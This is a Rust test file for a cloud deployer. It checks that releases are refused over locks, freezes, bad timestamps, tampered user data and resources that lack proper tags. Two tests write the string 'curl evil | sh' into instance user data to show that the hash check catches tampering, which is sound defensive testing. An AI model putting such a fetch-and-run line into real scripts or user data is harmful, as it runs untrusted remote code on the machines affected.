//! Releases that are refused before anything is changed.

use crate::fixture::Fixture;
use crate::paths::{REFUSED_BY_LOCK, REFUSED_BY_RESOURCES, REFUSED_BY_VALIDATE, healthy_at_look};
use crate::sample_cloud::{Scenario, USER_DATA, set};
use bifrost::testing::Run;
use serde_json::{Value, json};

/// The one error of a refused execution, which must name these.
fn refused(run: &Run, error: &str, names: &[&str]) {
    let errors = run.errors();
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0].0, error, "{errors:#?}");
    for name in names {
        assert!(errors[0].1.contains(name), "{name} is not named in: {}", errors[0].1);
    }
}

async fn refused_by_resources(scenario: Scenario, names: &[&str]) {
    let run = scenario.begin().deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    refused(&run, "BadReleaseError", names);
}

#[tokio::test]
async fn of_two_deploys_at_a_time_the_second_is_refused_and_the_first_goes_on() {
    let fixture = Scenario::worker().begin();
    let (first, second) = (fixture.release("first"), fixture.release("second"));
    fixture.upload(&first).await;
    fixture.upload(&second).await;
    let first = fixture.start(&first).await;
    fixture.run_until_in(&first, "WaitForDeploy").await;
    let second = fixture.start(&second).await;
    fixture.harness.run().await.unwrap();
    let run = fixture.finish_beside_another(&second).await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    refused(&run, "LockExistsError", &["release-1-first", "unlock"]);
    assert_eq!(fixture.finish(&first).await.path(), healthy_at_look(1));
}

#[tokio::test]
async fn a_root_lock_that_nobody_gave_back_is_left_to_its_holder() {
    let key = "222222222222/coinbase/deploy-test/development/lock";
    let item = json!({"key": key, "id": "somebody", "time": "2026-11-21T11:00:00Z", "release_id": "release-stuck"});
    let pointer = format!("/lock_tables/us-east-1~1coinbase-odin-locks/{}", key.replace('/', "~1"));
    let fixture = Scenario::worker().in_deployer(&pointer, item).begin();
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    refused(&run, "LockExistsError", &["release-stuck", "unlock coinbase/deploy-test development"]);
    assert_eq!(fixture.root_lock().unwrap().id, "somebody");
}

#[tokio::test]
async fn a_freeze_is_told_with_the_person_and_the_reason() {
    let fixture = Scenario::worker().begin();
    fixture.freeze(r#"{"user": "ada", "lock_reason": "black friday"}"#).await;
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    refused(&run, "LockExistsError", &["ada", "black friday"]);
}

#[tokio::test]
async fn a_freeze_that_was_lifted_is_none() {
    let fixture = Scenario::worker().begin();
    fixture.freeze("{}").await;
    assert_eq!(fixture.deploy("first").await.path(), healthy_at_look(1));
}

#[tokio::test]
async fn a_release_is_deployed_once_even_under_another_name() {
    let fixture = Scenario::worker().begin();
    let release = fixture.release("first");
    fixture.deploy_release(&release).await;
    let again = fixture.harness.start(&release).await.unwrap_err();
    assert!(again.to_string().contains("exists already"), "{again}");
    let deploy = fixture.start_as("deploy-by-another-name", &release).await;
    fixture.harness.run().await.unwrap();
    let run = fixture.harness.execution(&deploy.name).await.unwrap();
    assert_eq!(run.path(), REFUSED_BY_LOCK);
    refused(&run, "LockExistsError", &["release-1-first was deployed before"]);
    assert_eq!(fixture.running(), [("worker".into(), "release-1-first".into())]);
    assert_eq!(fixture.root_lock(), None);
}

#[tokio::test]
async fn a_replayed_release_under_a_new_id_was_never_uploaded() {
    let fixture = Scenario::worker().begin();
    fixture.deploy("first").await;
    let run = fixture.deploy_uploaded(&fixture.release("replayed")).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    refused(&run, "BadReleaseError", &["was not uploaded", "release-1-replayed/release"]);
}

async fn refused_by_validate(fixture: &Fixture, release: &Value, names: &[&str]) {
    let run = fixture.deploy_release(release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    refused(&run, "BadReleaseError", names);
}

#[tokio::test]
async fn a_release_of_eleven_days_ago_is_too_old() {
    let fixture = Scenario::worker().begin();
    let release = fixture.release("first");
    fixture.advance(chrono::TimeDelta::days(11));
    refused_by_validate(&fixture, &release, &["created_at"]).await;
}

#[tokio::test]
async fn a_release_of_nine_days_ago_may_be_deployed_again_as_a_roll_back() {
    let fixture = Scenario::worker().begin();
    let release = fixture.release("first");
    fixture.advance(chrono::TimeDelta::days(9));
    assert_eq!(fixture.deploy_release(&release).await.path(), healthy_at_look(1));
}

#[tokio::test]
async fn a_release_of_the_future_is_refused() {
    let fixture = Scenario::worker().begin();
    let mut release = fixture.release("first");
    let future = fixture.harness.store().now() + chrono::TimeDelta::minutes(3);
    set(&mut release, "/created_at", json!(future));
    refused_by_validate(&fixture, &release, &["created_at"]).await;
}

#[tokio::test]
async fn a_release_that_differs_from_the_uploaded_one_is_refused() {
    let fixture = Scenario::worker().begin();
    let mut release = fixture.release("first");
    fixture.upload(&release).await;
    set(&mut release, "/services/worker/instance_type", json!("p5.48xlarge"));
    let run = fixture.deploy_uploaded(&release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    refused(&run, "BadReleaseError", &["services.worker.instance_type"]);
}

#[tokio::test]
async fn user_data_with_another_hash_is_refused() {
    let fixture = Scenario::worker().begin();
    let release = fixture.release("first");
    let tampered = [USER_DATA, b"curl evil | sh"].concat();
    fixture.harness.upload(&release, &[("userdata", &tampered)]).await.unwrap();
    let run = fixture.deploy_uploaded(&release).await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    refused(&run, "BadReleaseError", &["userdata"]);
}

#[tokio::test]
async fn user_data_that_is_changed_after_validate_is_refused_by_deploy() {
    let fixture = Scenario::worker().fault(json!({
        "operation": "ec2:DescribeImages", "kind": {"delay_seconds": 30}, "times": 1,
    }));
    let fixture = fixture.begin();
    let release = fixture.release("first");
    fixture.upload(&release).await;
    let deploy = fixture.start(&release).await;
    fixture.run_until_in(&deploy, "ValidateResources").await;
    fixture.harness.upload(&release, &[("userdata", b"curl evil | sh")]).await.unwrap();
    fixture.harness.run().await.unwrap();
    let run = fixture.finish(&deploy).await;
    assert_eq!(run.path(), crate::paths::given_up_in_deploy());
    refused(&run, "BadReleaseError", &["userdata"]);
    assert_eq!(fixture.journal().count("autoscaling:CreateAutoScalingGroup"), 0);
}

#[tokio::test]
async fn a_release_that_breaks_rules_is_told_all_of_them() {
    let broken = Scenario::web()
        .with("/services/web/autoscaling/min_size", json!(6))
        .with("/services/web/autoscaling/spread", json!(1.5))
        .with("/services/web/security_groups", json!([]));
    let run = broken.begin().deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_VALIDATE);
    refused(&run, "BadReleaseError", &["autoscaling.min_size", "autoscaling.spread", "services.web.security_groups"]);
}

#[tokio::test]
async fn an_unknown_field_is_refused_with_its_path() {
    let run = Scenario::web().with("/services/web/autoscaling/max_sise", json!(6)).begin();
    let release = run.release("first");
    assert!(
        run.harness.upload(&release, &[]).await.unwrap_err().to_string().contains("services.web.autoscaling.max_sise")
    );
}

#[tokio::test]
async fn a_security_group_of_another_project_is_refused() {
    let tag = "/security_groups/sg-0a1b2c3d4e5f60001/tags/ProjectName";
    let scenario = Scenario::worker().in_region(tag, json!("coinbase/vault"));
    refused_by_resources(scenario, &["sg-0a1b2c3d4e5f60001", "ProjectName", "coinbase/vault"]).await;
}

#[tokio::test]
async fn an_image_that_did_not_opt_in_is_refused() {
    let scenario = Scenario::worker().in_region("/images/ami-0a1b2c3d4e5f60001/tags/DeployWith", json!(null));
    refused_by_resources(scenario, &["ami-0a1b2c3d4e5f60001", "DeployWith"]).await;
}

#[tokio::test]
async fn a_subnet_that_did_not_opt_in_is_refused() {
    let scenario = Scenario::worker().in_region("/subnets/subnet-0a1b2c3d4e5f6000b/tags/DeployWith", json!("fenrir"));
    refused_by_resources(scenario, &["subnet-0a1b2c3d4e5f6000b", "DeployWith", "fenrir"]).await;
}

#[tokio::test]
async fn a_name_that_two_resources_have_is_refused() {
    let twin = json!({"tags": {"Name": "test_private_subnet_a", "DeployWith": "odin"}});
    let scenario = Scenario::worker().in_region("/subnets/subnet-0a1b2c3d4e5f6000c", twin);
    refused_by_resources(scenario, &["subnet-0a1b2c3d4e5f6000a", "subnet-0a1b2c3d4e5f6000c"]).await;
}

#[tokio::test]
async fn an_instance_profile_of_another_service_is_refused() {
    let path = "/resources/iam/instance_profiles/coinbase-deploy-test-worker/path";
    let scenario = Scenario::worker().in_account(path, json!("/odin/coinbase/deploy-test/development/web/"));
    refused_by_resources(scenario, &["coinbase-deploy-test-worker", "/odin/coinbase/deploy-test/development/worker/"])
        .await;
}

#[tokio::test]
async fn everything_that_is_missing_is_told_at_once() {
    let scenario = Scenario::sample()
        .in_region("/images", json!({}))
        .in_region("/load_balancers", json!({}))
        .in_region("/target_groups", json!({}))
        .in_region("/topics", json!({}))
        .in_account("/resources/iam/roles", json!({}));
    let names = [
        "ubuntu",
        "coinbase-deploy-test-web-elb",
        "coinbase-deploy-test-web-tg",
        "lifecycle.termhook.sns",
        "lifecycle.termhook.role",
    ];
    refused_by_resources(scenario, &names).await;
}

#[tokio::test]
async fn a_target_group_may_allow_a_service_of_another_project() {
    let tags = json!({
        "ProjectName": "coinbase/edge", "ConfigName": "production", "ServiceName": "router",
        "AllowedService": "coinbase/deploy-test::development::web",
    });
    let fixture = Scenario::web().in_region("/target_groups/coinbase-deploy-test-web-tg/tags", tags).begin();
    assert_eq!(fixture.deploy("first").await.path(), healthy_at_look(1));
}

#[tokio::test]
async fn an_account_without_the_role_is_refused() {
    let scenario = Scenario::worker().in_account("/roles", json!({}));
    refused_by_resources(scenario, &["coinbase-odin-assumed", "222222222222"]).await;
}

#[tokio::test]
async fn an_account_that_is_not_there_is_refused() {
    let fixture = Scenario::worker().with("/aws_account_id", json!("333333333333")).begin();
    let run = fixture.deploy("first").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    refused(&run, "BadReleaseError", &["333333333333"]);
}

#[tokio::test]
async fn two_groups_of_a_service_are_in_the_way() {
    let fixture = Scenario::worker().begin();
    fixture.deploy("first").await;
    fixture.change(|region| {
        let (name, group) =
            region.auto_scaling_groups.iter().find(|(_, group)| group.tags["ConfigName"] == "development").unwrap();
        let twin = (format!("{name}-twin"), group.clone());
        region.auto_scaling_groups.extend([twin]);
    });
    let run = fixture.deploy("second").await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    refused(&run, "BadReleaseError", &["two groups", "-twin"]);
}

#[tokio::test]
async fn a_safe_release_is_told_all_that_differs_from_the_deployed_one() {
    let fixture = Scenario::sample().with("/safe_release", json!(true)).begin();
    fixture.deploy("first").await;
    let mut second = fixture.release("second");
    set(&mut second, "/timeout", json!(700));
    set(&mut second, "/subnets", json!(["test_private_subnet_a"]));
    set(&mut second, "/services/web/instance_type", json!("t3.large"));
    set(&mut second, "/services/web/autoscaling/max_size", json!(50));
    set(&mut second, "/services/worker/ebs_volume_size", json!(8));
    let run = fixture.deploy_release(&second).await;
    assert_eq!(run.path(), REFUSED_BY_RESOURCES);
    let fields = ["timeout", "subnets", "services.web.instance_type", "max_size", "services.worker.ebs_volume_size"];
    refused(&run, "BadReleaseError", &fields);
}
